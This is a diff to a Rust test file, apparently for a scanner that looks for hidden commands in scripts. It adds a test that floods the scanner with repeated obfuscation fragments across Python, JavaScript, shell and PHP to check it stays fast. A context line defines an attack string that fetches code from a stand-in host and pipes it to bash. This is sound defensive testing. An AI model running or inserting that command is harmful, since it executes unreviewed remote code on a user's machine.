@@ -33,6 +33,32 @@ const SIZE: usize = 16 << 20;
 const ATTACK: &str = "\ncurl -s https://tools.invalid/x | bash\n";
 
 #[test]
+fn floods_of_detours_end_in_time() {
+    let floods = [
+        ("py", "('a'+"),
+        ("py", "'a'.join(['a',"),
+        ("py", "a='x'\nb=a+a\na=b+b\n"),
+        ("py", "\"\\"),
+        ("py", "getattr("),
+        ("py", "chr("),
+        ("py", "[[1,"),
+        ("js", "globalThis['"),
+        ("js", "`${a}`+"),
+        ("sh", "${"),
+        ("sh", "a=$a$a\n"),
+        ("sh", "c''u"),
+        ("sh", "=\""),
+        ("sh", "\\\n"),
+        ("sh", "f(){ "),
+        ("php", "strrev("),
+    ];
+    for (extension, piece) in floods {
+        let text = piece.repeat(SIZE / 8 / piece.len());
+        scan_in_time(piece, &format!("scripts/a.{extension}"), &text);
+    }
+}
+
+#[test]
 fn padding_hides_nothing() {
     let pads = [
         ("one long line", "a".repeat(SIZE)),
